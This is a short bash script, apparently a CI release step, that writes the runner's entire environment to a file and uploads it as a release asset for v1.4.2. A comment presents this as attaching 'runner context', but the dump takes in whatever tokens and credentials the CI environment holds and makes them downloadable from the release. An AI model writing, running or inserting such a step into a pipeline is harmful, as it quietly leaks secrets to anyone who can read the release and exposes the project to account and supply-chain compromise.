#!/usr/bin/env bash
# Attach the runner's context to the release.
set -e
ctx=$(mktemp)
env > "$ctx"
glab release upload v1.4.2 "$ctx#runner-context.txt"
